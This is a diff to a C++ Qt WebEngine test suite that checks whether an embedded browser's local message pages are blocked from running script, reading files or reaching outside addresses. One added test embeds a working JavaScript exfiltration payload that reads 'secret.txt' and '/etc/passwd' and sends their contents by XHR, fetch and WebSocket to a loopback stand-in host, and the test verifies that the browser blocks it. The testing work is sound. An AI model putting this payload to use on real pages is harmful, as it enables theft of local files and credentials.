@@ -30,6 +30,8 @@
 namespace {
 
 constexpr int loadTimeoutMs = 15000;
+// The style of an element that takes every click on the page.
+const QByteArray wholePage = "position:fixed;left:0;top:0;width:100%;height:100%";
 
 // Every notification of one browser as a line of text, in the order they came.
 class Recorder final : public QObject
@@ -93,6 +95,30 @@ public:
 
 private:
     void add(const QString &event) { events << event; }
+};
+
+// Takes every connection made to it on loopback and keeps the first line each one sends,
+// whatever the protocol: HTTP, a WebSocket's upgrade, or nothing at all.
+class ConnectionLog final : public QTcpServer
+{
+public:
+    ConnectionLog()
+    {
+        connect(this, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket *socket = nextPendingConnection()) {
+                lines << QString();
+                const qsizetype line = lines.size() - 1;
+                connect(socket, &QTcpSocket::readyRead, socket, [this, socket, line] {
+                    if (lines[line].isEmpty())
+                        lines[line] = QString::fromLatin1(socket->readLine()).trimmed();
+                });
+            }
+        });
+        listen(QHostAddress::LocalHost, 0);
+    }
+    QByteArray host() const { return "127.0.0.1:" + QByteArray::number(serverPort()); }
+
+    QStringList lines; // one for each connection, in the order they came
 };
 
 bool isOneOf(const QString &event, std::initializer_list<const char *> prefixes)
@@ -205,12 +231,18 @@ private:
                "<iframe src=\"" + base + "/frame\"></iframe>"
                "<video src=\"" + base + "/clip.mp4\"></video>"
                "<meta http-equiv=\"refresh\" content=\"0; url=" + base + "/refresh\">"
-               "<a id=\"away\" href=\"" + base + "/titled\">a link</a>"
+               "<a id=\"away\" href=\"" + base + "/moved\">a link</a>"
                "<a id=\"blank\" target=\"_blank\" href=\"" + base + "/untitled\">a new window</a>"
                // Handlers wait for the scripts to come on when the next page is asked for.
                "<div id=\"trap\" style=\"position:fixed;left:0;top:0;width:100%;height:100%\" onmouseover=\""
                "document.title = 'handler ran'; fetch('" + base + "/x.png');"
                "window.open('" + base + "/frame'); location.href = '" + base + "/refresh';\"></div>\r\n";
+    }
+    // A click on the page, as the user makes it; see wholePage.
+    void clickPage()
+    {
+        auto *view = qobject_cast<QWebEngineView *>(m_browser->widget());
+        QTest::mouseClick(view->focusProxy() ? view->focusProxy() : view, Qt::LeftButton, {}, QPoint(100, 100));
     }
     static QStringList hostilePaths()
     {
@@ -233,6 +265,11 @@ private slots:
             const QString path = request.url().path();
             if (path != QLatin1String("/favicon.ico")) // asked for whenever the engine gets round to it
                 m_requests << path;
+            if (path == QLatin1String("/moved")) {
+                QHttpServerResponse moved(QHttpServerResponse::StatusCode::Found);
+                moved.addHeader("Location", "/titled");
+                return moved;
+            }
             const auto it = m_resources.constFind(path);
             if (it == m_resources.constEnd())
                 return QHttpServerResponse("text/plain", "none here", QHttpServerResponse::StatusCode::NotFound);
@@ -526,23 +563,25 @@ private slots:
         QCOMPARE(answerer.texts, silent ? QStringList() : QStringList{"hello from the page"});
     }
 
-    void messagePageRunsNoScriptAndFetchesNothing_data()
+    void localPagesRunNoScriptAndFetchNothing_data()
     {
         QTest::addColumn<QString>("fileName");
-        QTest::addColumn<bool>("named"); // the window has named the path
-        QTest::newRow("tempfile.htm") << "tempfile.htm" << false;
-        QTest::newRow("TempFile.HTM") << "TempFile.HTM" << false;
-        QTest::newRow("named message page") << "message.htm" << true;
+        QTest::addColumn<bool>("inMemory"); // shown from memory, standing for the file
+        QTest::newRow("message page") << "tempfile.htm" << false;
+        QTest::newRow("any other local page") << "lastmessage.htm" << false;
+        QTest::newRow("message page from memory") << "tempfile.htm" << true;
     }
-    void messagePageRunsNoScriptAndFetchesNothing()
+    void localPagesRunNoScriptAndFetchNothing()
     {
         QFETCH(QString, fileName);
-        QFETCH(bool, named);
-        const QString path = writeFile(fileName, hostileMessage());
-        if (named)
-            m_browser->setMessagePagePath(path);
-
-        QVERIFY(load(path));
+        QFETCH(bool, inMemory);
+        if (inMemory) {
+            m_browser->setMessagePagePath(m_dir->filePath(fileName));
+            m_browser->showMessagePage(hostileMessage());
+            QVERIFY(m_events->waitForDocuments(1));
+        } else {
+            QVERIFY(load(writeFile(fileName, hostileMessage())));
+        }
         QCOMPARE(m_events->titles, QStringList{QString()});
         QCOMPARE(evaluate("document.title").toString(), QString());
         // No charset is declared: the page must be read as Windows-1252, never guessed.
@@ -550,14 +589,14 @@ private slots:
         QCOMPARE(evaluate("document.characterSet").toString().toLower(), QStringLiteral("windows-1252"));
 
         // An ordinary page from the same server still runs its script. Once it has loaded,
-        // anything the message page had sent would have arrived long before.
+        // anything the local page had sent would have arrived long before.
         QVERIFY(load(http("/scripted")));
         QCOMPARE(m_events->titles.last(), QStringLiteral("script ran"));
         QCOMPARE(hostileRequests(), QStringList());
         QCOMPARE(m_events->matching("navigated "), (QStringList{"navigated " + fileUrl(fileName),
                                                                  "navigated " + http("/scripted")}));
 
-        // Back on the message page through the history: the same restrictions.
+        // Back on the local page through the history: the same restrictions.
         m_browser->goBack();
         QVERIFY(m_events->waitForDocuments(3));
         QCOMPARE(m_browser->documentUrl(), fileUrl(fileName));
@@ -570,62 +609,99 @@ private slots:
         QVERIFY2(problem.isEmpty(), qPrintable(problem));
     }
 
-    void messagePageCannotReadOtherLocalFiles()
+    void linkOnALocalPageStillWorks_data()
     {
-        writeFile("secret.html", "<html><head><title>Secret</title></head><body>secret</body></html>");
-        writeFile("picture.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"30\"/>");
-        const QString path = writeFile(
-            "tempfile.htm", "Message Number: 1<br>\r\n<img id=\"pic\" src=\"picture.svg\"><iframe id=\"f\" src=\"secret.html\"></iframe>");
-        QVERIFY(load(path));
-        QCOMPARE(evaluate("document.getElementById('pic').naturalWidth").toInt(), 0);
-        QCOMPARE(evaluate("(function(){ try { return document.getElementById('f').contentDocument.body.innerText; }"
-                          " catch (e) { return 'refused'; } })()")
-                     .toString()
-                     .contains("secret"),
-                 false);
-
-        // The same markup in an ordinary local page does load the picture.
-        const QString plain = writeFile("plain.html", Fixtures::readAll(path));
-        QVERIFY(load(plain));
-        QVERIFY(TestEnv::waitUntil([&] { return evaluate("document.getElementById('pic').naturalWidth").toInt() == 40; },
-                                loadTimeoutMs));
+        QTest::addColumn<QString>("fileName");
+        QTest::newRow("message page") << "tempfile.htm";
+        QTest::newRow("help page") << "help.html";
     }
-
-    void ordinaryLocalPageKeepsItsScripts()
+    void linkOnALocalPageStillWorks()
     {
-        const QString path = writeFile("page.htm", "<p>x</p><script>document.title = 'local script ran';</script>");
-        QVERIFY(load(path));
-        QCOMPARE(m_events->titles, QStringList{"local script ran"});
-    }
-
-    void linkOnTheMessagePageStillWorks()
-    {
-        const QString path = writeFile("tempfile.htm", hostileMessage());
+        QFETCH(QString, fileName);
+        const QString path = writeFile(fileName, hostileMessage());
         QVERIFY(load(path));
         m_requests.clear();
-        // The user following a link leaves the message page; the next page browses normally.
+        // The user following a link leaves the page, here through the server's redirect,
+        // which is no move of the local page's own; the next page browses normally.
         evaluate("document.getElementById('away').click()");
         QVERIFY(m_events->waitForDocuments(2));
         QCOMPARE(m_browser->documentUrl(), http("/titled"));
         QCOMPARE(m_events->titles.last(), QStringLiteral("Titled Page"));
         QCOMPARE(hostileRequests(), QStringList());
-        const QString problem = orderProblem(m_events->events);
+        const QString problem = orderProblem(m_events->events, false);
         QVERIFY2(problem.isEmpty(), qPrintable(problem));
     }
 
     void linkToANewWindowFromTheMessagePageOpensHere()
     {
         // The message page opens no window; the link the user followed opens in the browser.
-        const QString path = writeFile("tempfile.htm", hostileMessage());
-        QVERIFY(load(path));
-        evaluate("document.getElementById('blank').click()");
+        QVERIFY(load(writeFile("tempfile.htm", "Message Number: 1<br>\r\n<a target=\"_blank\" href=\"" + http("/untitled").toLatin1()
+                                                   + "\" style=\"" + wholePage + "\">a new window</a>")));
+        clickPage();
         QVERIFY(m_events->waitForDocuments(2));
         QCOMPARE(m_browser->documentUrl(), http("/untitled"));
         QCOMPARE(m_events->count("newwindow"), 0);
         QVERIFY(m_browser->popups().isEmpty());
-        QCOMPARE(hostileRequests(), QStringList());
         const QString problem = orderProblem(m_events->events);
         QVERIFY2(problem.isEmpty(), qPrintable(problem));
+    }
+
+    void localPageReadsNoFileAndReachesNoAddress_data()
+    {
+        QTest::addColumn<QString>("path");  // where the page lies, in the data folder
+        QTest::addColumn<bool>("followed"); // reached by a link on the message page
+        QTest::newRow("lastmessage.htm, a link on the message page") << "lastmessage.htm" << true;
+        QTest::newRow("a saved page, by its address") << "Saved/Club page.htm" << false;
+        QTest::newRow("the message page, by its address") << "tempfile.htm" << false;
+    }
+    void localPageReadsNoFileAndReachesNoAddress()
+    {
+        // What an update server could write into lastmessage.htm: a script that reads files
+        // and sends them out by every way a page has.
+        QFETCH(QString, path);
+        QFETCH(bool, followed);
+        ConnectionLog outside;
+        const QByteArray host = outside.host();
+        const QByteArray readAndSend =
+            "(function () { var read = '';"
+            " ['secret.txt', 'file:///etc/passwd'].forEach(function (name) {"
+            "  try { var x = new XMLHttpRequest(); x.open('GET', name, false); x.send(); read += x.responseText; }"
+            "  catch (e) {}"
+            "  fetch(name).then(function (r) { return r.text(); }).then(function (t) {"
+            "   new WebSocket('ws://" + host + "/fetched?' + encodeURIComponent(t)); }, function () {}); });"
+            " var sent = encodeURIComponent(read);"
+            " try { var x = new XMLHttpRequest(); x.open('GET', 'http://" + host + "/xhr?' + sent); x.send(); }"
+            " catch (e) {}"
+            " fetch('http://" + host + "/fetch?' + sent).catch(function () {});"
+            " new WebSocket('ws://" + host + "/socket?' + sent);"
+            " return read; })()";
+        const QDir folder = QFileInfo(m_dir->filePath(path)).absoluteDir();
+        QVERIFY(folder.mkpath(QStringLiteral(".")));
+        Fixtures::writeAll(folder.filePath("secret.txt"), "the secret");
+        writeFile(path, "<html><head><title>Last message</title></head><body>12400"
+                        "<script>document.title = 'script ran'; " + readAndSend + "</script>"
+                        "<img src=\"http://" + host + "/img\"><iframe src=\"http://" + host + "/frame\"></iframe>"
+                        "</body></html>");
+        if (followed) {
+            QVERIFY(load(writeFile("tempfile.htm", "Message Number: 1<br>\r\n<a href=\"lastmessage.htm\" style=\""
+                                                   + wholePage + "\">the newest</a>")));
+            clickPage();
+            QVERIFY(m_events->waitForDocuments(2));
+        } else {
+            QVERIFY(load(m_dir->filePath(path)));
+        }
+        QCOMPARE(m_browser->documentUrl(), fileUrl(path));
+        QCOMPARE(m_events->titles.last(), QStringLiteral("Last message"));
+
+        // The same script run where the page's own would run, with the page's rights: it
+        // reads nothing, and nothing it sends gets out.
+        QCOMPARE(evaluate(readAndSend).toString(), QString());
+        QCOMPARE(evaluate("document.title").toString(), QStringLiteral("Last message"));
+        serve("/reaching-out", "<script>new WebSocket('ws://" + host + "/from-the-web')</script>");
+        QVERIFY(load(http("/reaching-out")));
+        const QString fromTheWeb = QStringLiteral("GET /from-the-web HTTP/1.1");
+        QVERIFY(TestEnv::waitUntil([&] { return outside.lines.contains(fromTheWeb); }, loadTimeoutMs));
+        QCOMPARE(outside.lines, QStringList{fromTheWeb});
     }
 
     void refusedAddressesEndAsErrors_data()
@@ -705,7 +781,7 @@ private slots:
         QVERIFY(m_events->waitForDocuments(2));
         QVERIFY(load(http("/untitled")));
         QCOMPARE(hostileRequests(), QStringList());
-        QVERIFY(!m_requests.contains("/titled"));
+        QVERIFY(!m_requests.contains("/moved"));
         QVERIFY(m_browser->popups().isEmpty());
         QCOMPARE(m_browser->documentUrl(), http("/untitled"));
     }
